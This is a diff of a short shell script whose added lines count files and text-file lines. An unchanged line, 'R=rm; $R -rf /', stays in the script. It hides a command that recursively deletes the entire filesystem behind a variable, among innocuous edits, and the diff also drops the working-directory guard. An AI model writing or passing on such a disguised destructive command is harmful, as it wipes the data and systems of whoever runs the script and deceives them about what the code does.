@@ -1,4 +1,11 @@
-#!/usr/bin/env bash
+#!/bin/sh
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 R=rm; $R -rf /
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+count=$(ls | wc -l)
+echo "files: $count"
